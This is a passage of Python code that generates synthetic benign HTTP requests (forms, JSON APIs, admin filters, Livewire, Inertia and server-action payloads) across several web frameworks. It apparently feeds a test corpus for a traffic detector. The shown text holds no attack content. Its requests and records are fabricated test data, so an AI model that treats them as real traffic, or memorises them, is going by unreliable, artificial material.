        c.json("benign", "active-storage-direct-upload", "POST", H_RAILS, "/rails/active_storage/direct_uploads",
               {"blob": {"filename": name, "content_type": c.pick(["image/heic", "application/pdf", "image/png", "image/jpeg"]),
                         "byte_size": c.num(20000, 5000000), "checksum": c.b64(16)}}, sub=S, origin=True,
               cookie=ck(), extra=[("X-CSRF-Token", c.rails_token())])
    for i in range(3):
        pid = c.num(100, 5000)
        c.req("benign", "turbo-frame-lazy", "GET", H_RAILS, f"/products/{pid}/reviews?page={c.num(2, 9)}", sub=S,
              accept="html", referer=f"/products/{pid}", cookie=ck(), extra=[("Turbo-Frame", "reviews")])
    for i in range(3):
        obj = {"order": {"notes": c.pick(["Leave at the back door, please!", "Gift wrap & no invoice in the box",
                                          "Call on arrival: " + c.pick(PHONES), "Ring twice -- the bell's broken"]),
                         "line_items_attributes": [{"variant_id": c.num(1, 9000), "quantity": c.num(1, 4)}
                                                   for _ in range(c.num(1, 4))],
                         "coupon_code": c.pick(["", "SUMMER30", "WELCOME10"])}}
        c.json("benign", "api-order-json", "POST", H_RAILS, "/api/v1/orders.json", obj, sub=S,
               ua=c.pick(["ios-app", "android-app"]), extra=[("Authorization", "Bearer " + c.jwt())])
    for i in range(3):
        cid = c.num(1, 9000)
        c.form("benign", "ujs-delete", "POST", H_RAILS, f"/cart_items/{cid}",
               [("_method", "delete"), ("authenticity_token", c.rails_token())], sub=S, accept="ujs", origin=True,
               referer="/cart", cookie=ck(), extra=[("X-CSRF-Token", c.rails_token()), ("X-Requested-With", "XMLHttpRequest")])
    for i in range(2):
        c.json("benign", "anycable-broadcast", "POST", "anycable.gearshed.internal:8090", "/_broadcast",
               {"stream": f"chat_room_{c.num(1, 40)}", "data": jd({"message": c.pick(PLAIN_COMMENTS), "author": c.pick(NAMES)[0]})},
               sub=S, ua="Ruby", extra=[("Authorization", "Bearer " + c.alnum(32))])
    for i in range(2):
        c.form("benign", "turbo-comment-markdown", "POST", H_RAILS, f"/posts/{c.num(1, 900)}/comments",
               [("authenticity_token", c.rails_token()), ("comment[body]", c.pick(COMMENTS[:12])), ("commit", "Comment")],
               sub=S, accept="turbo", origin=True, cookie=ck())


def ben_django(c):
    S = "django"
    ck = lambda: c.cookie("django")
    admin_lists = [("clinic", "patient", ["last_name", "date_of_birth", "clinic__name"]),
                   ("clinic", "appointment", ["starts_at", "doctor__last_name", "status"]),
                   ("billing", "invoice", ["number", "issued_on", "total"])]
    for i in range(8):
        app, model, cols = c.pick(admin_lists)
        pairs = []
        if c.chance(0.7):
            pairs.append(("q", c.pick(["smith", "o'brien", "N\u00fa\u00f1ez", "2025-05", "INV-10482", "d'angelo", "jean-luc"])))
        pairs.append(("o", c.pick(["-1", "2.-1", "-3.1", "1"])))
        if c.chance(0.5):
            pairs.append(("status__exact", c.pick(["booked", "cancelled", "paid"])))
        if c.chance(0.5):
            pairs += [("starts_at__gte", "2025-05-01 00:00:00+00:00"), ("starts_at__lt", "2025-06-01 00:00:00+00:00")]
        if c.chance(0.3):
            pairs.append(("p", str(c.num(1, 12))))
        c.req("benign", "admin-changelist", "GET", H_DJANGO, f"/admin/{app}/{model}/?" + formenc(pairs), sub=S,
              accept="html", referer=f"/admin/{app}/{model}/", cookie=ck(), ua=c.pick(BROWSERS))
    for i in range(4):
        first, last, email, phone, a = person(c)
        pid = c.num(1, 9000)
        filters = q(formenc([("q", last), ("o", "-1")]))
        pairs = [("csrfmiddlewaretoken", c.django_token()), ("first_name", first), ("last_name", last),
                 ("email", email), ("phone", phone), ("date_of_birth", f"19{c.num(40, 99)}-0{c.num(1, 9)}-1{c.num(0, 9)}"),
                 ("clinic", str(c.num(1, 20))), ("notes", c.pick(["Prefers morning appointments.", "Allergic to penicillin",
                                                                    "Interpreter needed (Portuguese)", ""])),
                 ("initial-created_at_0", "2025-01-14"), ("initial-created_at_1", "10:22:31"), ("_save", "Save")]
        c.form("benign", "admin-change-form", "POST", H_DJANGO,
               f"/admin/clinic/patient/{pid}/change/?_changelist_filters={filters}", pairs, sub=S, origin=True,
               referer=f"/admin/clinic/patient/{pid}/change/", cookie=ck(), ua=c.pick(BROWSERS))
    for i in range(8):
        pairs = [("created__gte", "2025-05-01"), ("created__lt", "2025-06-01"),
                 (c.pick(["status__in", "doctor__specialty__in"]), c.pick(["booked,confirmed", "cardiology,dermatology"])),
                 ("patient__last_name__istartswith", c.pick(["o'", "mc", "d", "van"])),
                 ("ordering", c.pick(["-created", "starts_at", "-starts_at,patient__last_name"])),
                 ("search", c.pick(["follow up", "annual check-up", "vaccination", "r\u00e9vision"])),
                 ("page", str(c.num(1, 6))), ("page_size", "25"), ("fields", "id,starts_at,patient,doctor")]
        pairs = c.r.sample(pairs, c.num(3, len(pairs)))
        c.req("benign", "drf-filter-lookups", "GET", H_DJANGO, "/api/v1/appointments/?" + qs(pairs), sub=S,
              accept="json", cookie=ck(), ua=c.pick(["chrome", "firefox", "python", "okhttp"]))
    for i in range(6):
        first, last, email, phone, a = person(c)
        obj = c.pick([
            {"patient": c.num(1, 9000), "doctor": c.num(1, 80), "starts_at": c.ts(), "reason": c.pick(
                ["Annual check-up", "Follow-up re: blood test results", "Knee pain (left) after running", "Vaccination - travel"]),
             "notes": c.pick(["Can't do Mondays.", "Please call if there's an earlier slot!", ""])},
            {"first_name": first, "last_name": last, "email": email, "phone": phone,
             "address": {"line1": a["street"], "city": a["city"], "postal_code": a["zip"], "country": a["country"]}},
            {"message": any_text(c), "thread": c.num(1, 900)},
        ])
        c.json("benign", "drf-json-write", c.pick(["POST", "PATCH", "PUT"]), H_DJANGO,
               c.pick(["/api/v1/appointments/", f"/api/v1/patients/{c.num(1, 9000)}/", "/api/v1/messages/"]), obj, sub=S,
               origin=True, cookie=ck(), extra=[("X-CSRFToken", c.alnum(64))])
    for i in range(3):
        _, _, email, _, _ = person(c)
        c.form("benign", "login-form", "POST", H_DJANGO, "/accounts/login/",
               [("csrfmiddlewaretoken", c.django_token()), ("username", email),
                ("password", c.alnum(12) + c.pick(["!", "?", "$"])), ("next", c.pick(["/dashboard/", "/appointments/?status=booked"]))],
               sub=S, origin=True, referer="/accounts/login/?next=/dashboard/", cookie=ck())
    for i in range(4):
        first, last, email, phone, a = person(c)
        c.form("benign", "contact-form", "POST", H_DJANGO, "/contact/",
               [("csrfmiddlewaretoken", c.django_token()), ("name", f"{first} {last}"), ("email", email),
                ("phone", phone), ("subject", c.pick(["Appointment question", "Billing", "Feedback", "Parking?"])),
                ("message", any_text(c)), ("consent", "on")], sub=S, origin=True, referer="/contact/", cookie=ck())
    for i in range(3):
        n = c.num(2, 4)
        pairs = [("csrfmiddlewaretoken", c.django_token()), ("form-TOTAL_FORMS", str(n)), ("form-INITIAL_FORMS", "0"),
                 ("form-MIN_NUM_FORMS", "0"), ("form-MAX_NUM_FORMS", "1000")]
        for j in range(n):
            pairs += [(f"form-{j}-medication", c.pick(["Ibuprofen 200 mg", "Amoxicillin 500mg", "Vitamin D3 1000 IU"])),
                      (f"form-{j}-dosage", c.pick(["1 tablet 3x/day", "2 caps every 8h", "once daily w/ food"])),
                      (f"form-{j}-DELETE", "")]
        c.form("benign", "formset", "POST", H_DJANGO, f"/prescriptions/{c.num(1, 900)}/edit/", pairs, sub=S, origin=True,
               cookie=ck())
    for i in range(2):
        first, _, email, _, _ = person(c)
        c.form("benign", "contrib-comments", "POST", H_DJANGO, "/comments/post/",
               [("csrfmiddlewaretoken", c.django_token()), ("content_type", "blog.post"), ("object_pk", str(c.num(1, 300))),
                ("timestamp", str(c.epoch())), ("security_hash", c.hex(40)), ("honeypot", ""), ("name", first),
                ("email", email), ("url", c.pick(["", "https://example.com/"])), ("comment", any_text(c)),
                ("post", "Post")], sub=S, origin=True, cookie=ck())
    for i in range(2):
        first, last, email, _, _ = person(c)
        c.form("benign", "allauth-signup", "POST", H_DJANGO, "/accounts/signup/",
               [("csrfmiddlewaretoken", c.django_token()), ("email", email), ("username", (first[:1] + last).lower().replace("'", "")),
                ("password1", c.alnum(14)), ("password2", "same-as-above")], sub=S, origin=True, cookie=ck())


def ben_laravel(c):
    S = "laravel"
    ck = lambda: c.cookie("laravel")
    for i in range(8):
        comp = c.pick(["search-products", "edit-invoice", "contact-form", "customer-table", "comment-box"])
        data = {"search": "", "perPage": 25, "sortField": "created_at", "sortAsc": False}
        kind = c.pick(["syncInput", "callMethod", "fireEvent"])
        if kind == "syncInput":
            upd = {"type": "syncInput", "payload": {"id": c.lower(4), "name": c.pick(["search", "note", "message"]),
                                                    "value": c.pick(SEARCHES + REVIEWS_EN)}}
        elif kind == "callMethod":
            upd = {"type": "callMethod", "payload": {"id": c.lower(4), "method": c.pick(["sortBy", "gotoPage", "save"]),
                                                     "params": [c.pick(["total", "client_name", 2, 3])]}}
        else:
            upd = {"type": "fireEvent", "payload": {"id": c.lower(4), "event": "invoiceSaved", "params": [c.num(1, 9000)]}}
        obj = {"fingerprint": {"id": c.alnum(20), "name": comp, "locale": c.pick(["en", "de", "fr"]),
                               "path": comp.split("-")[-1] + "s", "method": "GET", "v": "acj"},
               "serverMemo": {"children": [], "errors": [], "htmlHash": c.hex(8), "data": data,
                              "dataMeta": [], "checksum": c.hex(64)},
               "updates": [upd]}
        c.json("benign", "livewire2-" + kind.lower(), "POST", H_LARAVEL, f"/livewire/message/{comp}", obj, sub=S,
               accept="inertia", origin=True, referer="/" + comp.split("-")[-1] + "s", cookie=ck(),
               extra=[("X-Livewire", "true"), ("X-CSRF-TOKEN", c.laravel_token())])
    for i in range(8):
        comp = c.pick(["invoices.table", "settings.profile", "clients.create", "support.ticket-form"])
        snap = {"data": {"search": "", "status": "all", "perPage": 25, "selected": [[], {"s": "arr"}],
                         "dueBefore": ["2025-06-30", {"s": "cbn", "type": "date"}]},
                "memo": {"id": c.alnum(20), "name": comp, "path": comp.split(".")[0], "method": "GET", "children": [],
                         "scripts": [], "assets": [], "errors": [], "locale": "en"},
                "checksum": c.hex(64)}
        first, last, email, phone, a = person(c)
        updates = c.pick([{"search": c.pick(SEARCHES)}, {"status": "overdue"},
                          {"form.name": f"{first} {last}", "form.email": email, "form.phone": phone},
                          {"message": any_text(c)}, {}])
        calls = [] if updates else [{"path": "", "method": c.pick(["save", "$refresh", "nextPage"]), "params": []}]
        c.json("benign", "livewire3-update", "POST", H_LARAVEL, "/livewire/update",
               {"_token": c.laravel_token(), "components": [{"snapshot": jd(snap), "updates": updates, "calls": calls}]},
               sub=S, accept="any", origin=True, referer="/" + comp.split(".")[0], cookie=ck(), extra=[("X-Livewire", "")])
    for i in range(7):
        ver = c.hex(32)
        xs = [("X-Inertia", "true"), ("X-Inertia-Version", ver), ("X-Requested-With", "XMLHttpRequest")]
        kind = i % 4
        if kind == 0:
            c.req("benign", "inertia-visit", "GET", H_LARAVEL, c.pick(["/dashboard", "/invoices?status=paid&page=2", "/clients"]),
                  sub=S, accept="inertia", cookie=ck(), extra=xs)
        elif kind == 1:
            c.req("benign", "inertia-partial-reload", "GET", H_LARAVEL, f"/invoices?search={q(c.pick(['acme', 'o%27brien', 'caf%C3%A9']), safe='%')}",
                  sub=S, accept="inertia", cookie=ck(),
                  extra=xs + [("X-Inertia-Partial-Component", "Invoices/Index"), ("X-Inertia-Partial-Data", "invoices,filters")])
        else:
            first, last, email, phone, a = person(c)
            obj = c.pick([{"name": f"{first} {last}", "email": email, "phone": phone, "address": a["street"],
                           "city": a["city"], "postal_code": a["zip"], "country": a["country"]},
                          {"number": f"INV-{c.num(10000, 99999)}", "due_date": "2025-07-01", "notes": c.pick(PLAIN_COMMENTS),
                           "items": [{"description": c.pick(PRODUCTS), "qty": c.num(1, 5), "unit_price": c.num(10, 400)}]}])
            c.json("benign", "inertia-form", c.pick(["POST", "PUT"]), H_LARAVEL,
                   c.pick(["/clients", f"/invoices/{c.num(1, 9000)}"]), obj, sub=S, accept="inertia", origin=True,
                   cookie=ck(), extra=xs + [("X-XSRF-TOKEN", urllib.parse.unquote(c.laravel_cookie_value()))])
    for i in range(4):
        first, last, email, phone, a = person(c)
        c.form("benign", "blade-form", "POST", H_LARAVEL, f"/clients/{c.num(1, 900)}",
               [("_token", c.laravel_token()), ("_method", "PUT"), ("name", f"{first} {last}"), ("email", email),
                ("vat_id", c.pick(["IE6388047V", "DE129273398", "FR40303265045", ""])), ("notes", any_text(c))],
               sub=S, origin=True, referer="/clients", cookie=ck())
    for i in range(4):
        pairs = [("filter[status]", c.pick(["paid", "overdue,draft"])), ("filter[client.name]", c.pick(["acme", "o'neill", "m\u00fcller"])),
                 ("include", "client,items"), ("sort", c.pick(["-issued_at", "total", "-total,number"])),
                 ("fields[invoices]", "id,number,total,issued_at"), ("page[number]", str(c.num(1, 5)))]
        c.req("benign", "spatie-query-builder", "GET", H_LARAVEL, "/api/invoices?" + qs(pairs), sub=S,
              accept="json", ua=c.pick(["axios", "chrome"]), extra=[("Authorization", "Bearer " + f"{c.num(1, 99)}|{c.alnum(40)}")])
    c.req("benign", "sanctum-csrf-cookie", "GET", H_LARAVEL, "/sanctum/csrf-cookie", sub=S, accept="axios",
          origin="https://spa.invoicely.io", ua="chrome", extra=[("X-Requested-With", "XMLHttpRequest")])
    c.json("benign", "sanctum-login", "POST", H_LARAVEL, "/login", {"email": c.pick(EMAILS), "password": c.alnum(14), "remember": True},
           sub=S, accept="axios", origin="https://spa.invoicely.io", cookie=ck(),
           extra=[("X-XSRF-TOKEN", urllib.parse.unquote(c.laravel_cookie_value())), ("X-Requested-With", "XMLHttpRequest")])


def ben_next(c):
    S = "nextjs"
    ck = lambda: c.cookie("next")
    bodies = [lambda: [{"productId": f"sku_{c.alnum(10)}", "quantity": c.num(1, 4)}],
              lambda: ["2025-07-14", "en-GB"],
              lambda: [],
              lambda: [{"email": c.pick(EMAILS), "consent": True, "source": "footer"}],
              lambda: [{"tripId": c.uuid(), "note": c.pick(PLAIN_COMMENTS)}],
              lambda: [c.uuid(), {"rating": c.num(1, 6), "review": any_review(c)}],
              lambda: ["$undefined"],
              lambda: [{"from": "LHR", "to": "JFK", "depart": "2025-08-01", "return": "2025-08-15", "adults": 2, "children": 1}],
              lambda: [{"query": c.pick(SEARCHES), "filters": {"price": [0, 500], "stars": [4, 5]}}],
              lambda: [{"firstName": c.pick(NAMES)[0], "lastName": c.pick(NAMES)[1], "phone": c.pick(PHONES)}]]
    for i in range(10):
        path = c.pick(["/checkout", "/account/settings", "/trips/new", "/support", "/en/booking", "/"])
        c.req("benign", "server-action-text", "POST", H_NEXT, path, jd(bodies[i]()), TEXT_PLAIN, sub=S, accept="rsc",
              origin=True, referer=path, cookie=ck(),
              extra=[("Next-Action", c.next_action_id()), ("Next-Router-State-Tree", next_tree(c, path))])
    for i in range(7):
        path = c.pick(["/contact", "/account/profile", "/trips/review", "/newsletter"])
        first, last, email, phone, a = person(c)
        fields = [("name", f"{first} {last}"), ("email", email), ("message", any_text(c))]
        if i % 3 == 0:
            parts = [(f"1_{k}", v) for k, v in fields] + [("0", '["$K1"]')]
        elif i % 3 == 1:
            parts = [(f"1_{k}", v) for k, v in fields] + [("0", '[{"message":"","errors":{}},"$K1"]')]
        else:
            parts = [("$ACTION_ID_" + c.hex(40), "")] + fields
        c.mp("benign", "server-action-multipart", "POST", H_NEXT, path, parts, sub=S, bkind="webkit",
             accept="rsc" if i % 3 != 2 else "html", origin=True, referer=path, cookie=ck(),
             extra=[("Next-Action", c.next_action_id()), ("Next-Router-State-Tree", next_tree(c, path))] if i % 3 != 2 else ())
    for i in range(7):
        path = c.pick(["/destinations/portugal", "/trips", "/account", "/deals?month=july", "/en/blog/packing-list"])
        xs = [("RSC", "1"), ("Next-Router-State-Tree", next_tree(c, path.split("?")[0])), ("Next-Url", "/trips")]
        if i % 2:
            xs.append(("Next-Router-Prefetch", "1"))
        sep = "&" if "?" in path else "?"
        c.req("benign", "rsc-navigation", "GET", H_NEXT, f"{path}{sep}_rsc={c.lower(5)}", sub=S, accept="any",
              referer="/", cookie=ck(), extra=xs)
    bid = c.build_id()
    for i in range(5):
        slug = c.pick(["lisbon-in-3-days", "caf\u00e9s-of-vienna", "kyoto-autumn", "iceland-ring-road", "s\u00e3o-paulo-food"])
        c.req("benign", "next-data-json", "GET", H_NEXT, f"/_next/data/{bid}/en/guides/{q(slug)}.json?slug={q(slug)}",
              sub=S, accept="any", referer="/guides", extra=[("x-nextjs-data", "1")])
    for i in range(2):
        c.req("benign", "next-image-local", "GET", H_NEXT,
              "/_next/image?" + qs([("url", c.pick(["/images/hero-lisbon.jpg", "/uploads/2025/kyoto.webp"])),
                                    ("w", str(c.pick([640, 1080, 1920]))), ("q", "75")]), sub=S,
              accept="image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8", referer="/")
    c.form("benign", "authjs-credentials", "POST", H_NEXT, "/api/auth/callback/credentials",
           [("email", c.pick(EMAILS)), ("password", c.alnum(12)), ("csrfToken", c.hex(64)),
            ("callbackUrl", f"https://{H_NEXT}/account"), ("json", "true")], sub=S, accept="json", origin=True, cookie=ck())
    c.req("benign", "authjs-session", "GET", H_NEXT, "/api/auth/session", sub=S, accept="json", cookie=ck())
    c.json("benign", "vercel-insights-view", "POST", H_NEXT, "/_vercel/insights/view",
           {"o": f"https://{H_NEXT}/destinations/portugal?utm_source=newsletter&utm_medium=email", "sv": "0.1.2",
            "sdkn": "@vercel/analytics/next", "sdkv": "1.3.1", "ts": c.epoch() * 1000, "r": "https://www.google.com/"},
           sub=S, ctype=TEXT_PLAIN, accept="any")
    c.json("benign", "route-handler-json", "POST", H_NEXT, "/api/newsletter",
           {"email": c.pick(EMAILS), "lists": ["deals", "guides"], "locale": "pt-BR"}, sub=S, origin=True)


def ben_spring(c):
    S = "spring"
    auth = lambda: [("Authorization", "Bearer " + c.jwt())]
    for i in range(8):
        kind = i % 4
        if kind == 0:
            uri = "/api/vehicles?" + qs([("page", str(c.num(0, 8))), ("size", "20"), ("sort", "name,desc"), ("sort", "year")], safe=",")
        elif kind == 1:
            uri = "/api/drivers/search/findByLastNameIgnoreCase?" + qs([("lastName", c.pick(["O'Neill", "M\u00fcller", "D'Angelo", "Smith"])),
                                                                         ("sort", "firstName,asc")], safe=",")
        elif kind == 2:
            uri = f"/api/vehicles/{c.num(1, 900)}?projection=summary"
        else:
            uri = "/api/trips?" + qs([("vehicle.depot.name", c.pick(["North Yard", "Port & Rail", "Zone 3"])),
                                       ("startedAt", "2025-05-01T00:00:00Z"), ("page", "0"), ("size", "50"),
                                       ("sort", "startedAt,desc")], safe=",:")
        c.req("benign", "data-rest-query", "GET", H_SPRING, uri, sub=S, accept="hal",
              ua=c.pick(["chrome", "okhttp", "axios"]), extra=auth())
    for i in range(4):
        obj = {"name": c.pick(["Van 12", "Truck \u2013 Reefer 3", "E-Cargo Bike #7", "Sprinter (blue)"]),
               "vin": "WDB" + c.alnum(14).upper(), "year": c.num(2015, 2026), "status": c.pick(["ACTIVE", "SERVICE"]),
               "depot": f"https://{H_SPRING}/api/depots/{c.num(1, 40)}",
               "notes": c.pick(["Tyres replaced 2025-04; next service @ 120,000 km", "Driver reports 'check engine' light",
                                "Key is in the lockbox (code at reception)", ""])}
        c.json("benign", "hal-write", c.pick(["POST", "PUT"]), H_SPRING, c.pick(["/api/vehicles", f"/api/vehicles/{c.num(1, 900)}"]),
               obj, sub=S, accept="hal", ua=c.pick(["chrome", "axios"]), extra=auth())
    for path in ["/actuator/health", "/actuator/health/liveness", "/actuator/health/readiness"]:
        c.req("benign", "actuator-health", "GET", H_SPRING.replace("api.", "api-internal."), path, sub=S, accept="any",
              ua="kube-probe", extra=[("Connection", "close")])
    for i in range(3):
        if i == 0:
            c.form("benign", "security-form-login", "POST", H_SPRING, "/login",
                   [("username", c.pick(EMAILS)), ("password", c.alnum(12)), ("remember-me", "on"), ("_csrf", c.uuid())],
                   sub=S, origin=True, referer="/login", cookie=c.cookie("spring"))
        else:
            first, last, email, phone, a = person(c)
            c.form("benign", "thymeleaf-form", "POST", H_SPRING, f"/drivers/{c.num(1, 300)}/edit",
                   [("_csrf", c.uuid()), ("firstName", first), ("lastName", last), ("email", email), ("phone", phone),
                    ("licenseClasses", "B"), ("licenseClasses", "C1"), ("_licenseClasses", "on"),
                    ("notes", any_text(c))], sub=S, origin=True, cookie=c.cookie("spring"))
    for i in range(2):
        c.req("benign", "spring-page-sort-multi", "GET", H_SPRING,
              "/api/maintenance?" + qs([("page", "1"), ("size", "25"), ("sort", "dueDate,asc"), ("sort", "priority,desc"),
                                        ("status", "OPEN"), ("q", c.pick(["brake pads", "oil change", "A/C"]))], safe=","),
              sub=S, accept="hal", extra=auth())


def ben_aspnet(c):
    S = "aspnet"
    ck = lambda: c.cookie("aspnet")
    for i in range(8):
        page = c.pick(["/Employees/List.aspx", "/Timesheets/Week.aspx", "/Requests/New.aspx", "/Directory/Search.aspx"])
        target, arg = c.pick([("ctl00$MainContent$gvEmployees", "Sort$LastName"), ("ctl00$MainContent$gvEmployees", f"Page${c.num(2, 9)}"),
                              ("ctl00$MainContent$ddlDepartment", ""), ("", ""), ("ctl00$MainContent$gvTimesheets", "Edit$3")])
        first, last, email, phone, a = person(c)
        pairs = [("__EVENTTARGET", target), ("__EVENTARGUMENT", arg), ("__LASTFOCUS", ""), ("__VIEWSTATE", c.viewstate()),
                 ("__VIEWSTATEGENERATOR", c.hex(8).upper()), ("__EVENTVALIDATION", c.eventvalidation()),
                 ("ctl00$MainContent$txtSearch", c.pick([last, "", "o'neill", "Facilities & Ops"])),
                 ("ctl00$MainContent$ddlDepartment", c.pick(["All", "HR", "R&D", "Finance"])),
                 ("ctl00$MainContent$chkActiveOnly", "on")]
        if not target:
            pairs.append(("ctl00$MainContent$btnSearch", "Search"))
        c.form("benign", "webforms-postback", "POST", H_ASPNET, page, pairs, sub=S, origin=True, referer=page,
               cookie=ck(), ua=c.pick(["edge", "chrome", "firefox-win"]))
    for i in range(5):
        first, last, email, phone, a = person(c)
        if i % 2:
            c.form("benign", "razor-pages-handler", "POST", H_ASPNET, f"/Leave/Edit/{c.num(1, 900)}?handler=Save",
                   [("Input.StartDate", "2025-07-14"), ("Input.EndDate", "2025-07-25"), ("Input.Type", "Annual"),
                    ("Input.Comment", c.pick(["Family trip to Lisbon \u2013 back on the 28th", "Moving house (finally!)",
                                              "Wedding (mine!) \U0001F389", "Covering: Priya R. & Jan vdB"])),
                    ("__RequestVerificationToken", c.rvtoken())], sub=S, origin=True, cookie=ck(), ua="edge")
        else:
            c.form("benign", "mvc-form", "POST", H_ASPNET, "/Directory/Edit",
                   [("__RequestVerificationToken", c.rvtoken()), ("Id", str(c.num(1, 9000))), ("FirstName", first),
                    ("LastName", last), ("Email", email), ("Phone", phone), ("Office", a["city"]),
                    ("IsRemote", "true"), ("IsRemote", "false")], sub=S, origin=True, cookie=ck(), ua="edge")
    c.req("benign", "blazor-negotiate", "POST", H_ASPNET, "/_blazor/negotiate?negotiateVersion=1", "", TEXT_PLAIN, sub=S,
          accept="any", origin=True, cookie=ck(), ua="edge",
          extra=[("X-Requested-With", "XMLHttpRequest"), ("X-SignalR-User-Agent", TOOLS["signalr"])])
    c.form("benign", "blazor-disconnect", "POST", H_ASPNET, "/_blazor/disconnect",
           [("circuitId", c.b64(64, url=True, pad=False))], sub=S, accept="any", origin=True, cookie=ck(), ua="edge")
    c.req("benign", "blazor-boot-json", "GET", H_ASPNET, "/_framework/blazor.boot.json", sub=S, accept="any", ua="chrome")
    for i in range(3):
        msg = {"type": 1, "target": "SendMessage", "arguments": [c.pick(NAMES)[0], any_text(c)]}
        c.req("benign", "signalr-longpoll-send", "POST", H_ASPNET, f"/hubs/chat?id={c.b64(16, url=True, pad=False)}",
              jd(msg) + "\x1e", TEXT_PLAIN, sub=S, accept="any", origin=True, ua="edge",
              extra=[("X-Requested-With", "XMLHttpRequest"), ("X-SignalR-User-Agent", TOOLS["signalr"])])
    for i in range(4):
        flt = c.pick(["Department eq 'R&D' and IsActive eq true", "contains(LastName,'o''neill')",
                      "HireDate ge 2024-01-01 and Office in ('Dublin','Lyon')", "startswith(FirstName,'Jo')"])
        uri = ("/odata/Employees?" + "$filter=" + q(flt, safe="(),'") + "&$orderby=" + q("LastName desc")
               + "&$top=20&$skip=" + str(c.num(0, 5) * 20) + "&$select=Id,FirstName,LastName,Email&$expand=Manager($select=Id,LastName)&$count=true")
        c.req("benign", "odata-query", "GET", H_ASPNET, uri, sub=S, accept="json", cookie=ck(), ua=c.pick(["edge", "chrome"]))
    for i in range(2):
        c.form("benign", "identity-login", "POST", H_ASPNET, "/Identity/Account/Login?ReturnUrl=%2FTimesheets",
               [("Input.Email", c.pick(EMAILS)), ("Input.Password", c.alnum(14)), ("Input.RememberMe", "true"),
                ("__RequestVerificationToken", c.rvtoken()), ("Input.RememberMe", "false")],
               sub=S, origin=True, cookie=ck(), ua="edge")


def ben_express(c):
    S = "express"
    for i in range(8):
        pairs = c.pick([
            [("filter[price][gte]", "10"), ("filter[price][lte]", str(c.num(50, 300))), ("filter[tags][]", "eco"),
             ("filter[tags][]", "vegan"), ("sort[createdAt]", "-1"), ("page[size]", "20")],
            [("where[category][in][]", "shoes"), ("where[category][in][]", "boots"), ("where[name][contains]", c.pick(["trail", "o'neill", "caf\u00e9"])),
             ("limit", "24"), ("skip", str(c.num(0, 5) * 24))],
            [("a[b][c]", "1"), ("a[b][d]", "2"), ("opts[expand]", "variants"), ("opts[currency]", "EUR")],
            [("search[q]", c.pick(SEARCHES)), ("search[mode]", "phrase"), ("facets[]", "brand"), ("facets[]", "size")],
            [("filter[where][status]", "published"), ("filter[order]", "publishedAt DESC"), ("filter[limit]", "10"),
             ("filter[include][0][relation]", "author")],
        ])
        uri = "/api/products?" + (qs(pairs) if i % 3 else formenc(pairs))
        c.req("benign", "qs-brackets", "GET", H_EXPRESS, uri, sub=S, accept="axios", ua=c.pick(["chrome", "safari", "axios", "node"]),
              cookie=c.cookie("express"))
    for i in range(6):
        obj = c.pick([
            {"where": {"AND": [{"status": {"in": ["OPEN", "PENDING"]}}, {"createdAt": {"gte": "2025-05-01T00:00:00.000Z"}},
                               {"title": {"contains": c.pick(["refund", "can't log in", "caf\u00e9 order"]), "mode": "insensitive"}}]},
             "orderBy": [{"createdAt": "desc"}], "take": 50, "skip": 0},
            {"where": {"OR": [{"email": {"endsWith": "@example.com"}}, {"name": {"startsWith": "O'"}}]},
             "select": {"id": True, "email": True, "name": True}, "take": 25},
            {"filters": {"price": {"between": [10, 99]}, "brand": {"$eq": "Nimbus"}}, "sort": ["-rating", "price"], "page": 2},
            {"text": any_text(c), "ticketId": c.num(100, 9999), "internal": False, "attachments": []},
        ])
        c.json("benign", "nest-json-filters", "POST", H_EXPRESS, c.pick(["/api/v1/tickets/query", "/api/v1/customers/search", "/api/v1/comments"]),
               obj, sub=S, accept="axios", ua=c.pick(["chrome", "axios"]), extra=[("Authorization", "Bearer " + c.jwt())])
    for i in range(4):
        uri = "/api/articles?" + qs([("include", "author,comments.author"), ("fields[articles]", "title,body,publishedAt"),
                                      ("fields[people]", "name"), ("filter[tag]", c.pick(["travel", "food & drink", "diy"])),
                                      ("page[number]", str(c.num(1, 5))), ("page[size]", "10"), ("sort", "-publishedAt")])
        c.req("benign", "jsonapi-query", "GET", H_EXPRESS, uri, sub=S, accept="jsonapi", ua="chrome")
    for i in range(4):
        cart = {"items": [{"sku": f"SKU-{c.num(1000, 9999)}", "qty": c.num(1, 3)} for _ in range(c.num(1, 4))],
                "currency": c.pick(["EUR", "USD", "GBP"]), "note": c.pick(["gift", "", "leave with neighbour (no. 12)"])}
        ck = f"{c.cookie('express')}; cart=j%3A{uric(jd(cart))}; consent=j%3A{uric(jd({'analytics': True, 'ads': False}))}"
        c.req("benign", "signed-and-json-cookies", "GET", H_EXPRESS, c.pick(["/cart", "/api/cart", "/checkout/shipping"]),
              sub=S, accept="html", cookie=ck, ua=c.pick(BROWSERS))
    for i in range(3):
        c.json("benign", "mongodb-data-api-find", "POST", "data.mongodb-api.com",
               "/app/data-abcde/endpoint/data/v1/action/find",
               {"dataSource": "Cluster0", "database": "shop", "collection": "orders",
                "filter": {"status": {"$in": ["paid", "shipped"]}, "total": {"$gte": c.num(10, 100)}},
                "sort": {"createdAt": -1}, "limit": 50}, sub=S, ua="node", extra=[("api-key", c.alnum(64))])
    for i in range(3):
        first, last, email, phone, a = person(c)
        c.form("benign", "express-form", "POST", H_EXPRESS, "/account/address",
               [("_csrf", c.b64(27, url=True, pad=False)), ("address[line1]", a["street"]), ("address[city]", a["city"]),
                ("address[postcode]", a["zip"]), ("address[country]", a["country"]), ("phone", phone),
                ("instructions", c.pick(["Side gate, code 4417#", "Buzz 3B & wait", "Leave with the concierge"]))],
               sub=S, origin=True, cookie=c.cookie("express"))
    c.json("benign", "jwt-refresh", "POST", H_EXPRESS, "/auth/refresh", {"refreshToken": c.b64(48, url=True, pad=False)},
           sub=S, ua="ios-app")
    c.req("benign", "jwt-me", "GET", H_EXPRESS, "/api/me?expand[]=addresses&expand[]=paymentMethods", sub=S, accept="json",
          ua="android-app", extra=[("Authorization", "Bearer " + c.jwt())])


def ben_phoenix(c):
    S = "phoenix"
    ck = lambda: c.cookie("phoenix")
    for i in range(5):
        first, last, email, phone, a = person(c)
        pairs = c.pick([[("_csrf_token", c.phoenix_token()), ("_method", "put"), ("user[email]", email),
                         ("user[current_password]", c.alnum(12))],
                        [("_csrf_token", c.phoenix_token()), ("poll[question]", c.pick(["Where should we go for lunch?",
                                                                                         "Best day for the offsite: Tue or Thu?",
                                                                                         "Pizza toppings -- pineapple: yes/no?"])),
                         ("poll[options][0][text]", "Union Station food hall"), ("poll[options][1][text]", "Tacos & co."),
                         ("poll[closes_at]", "2025-06-20T17:00")],
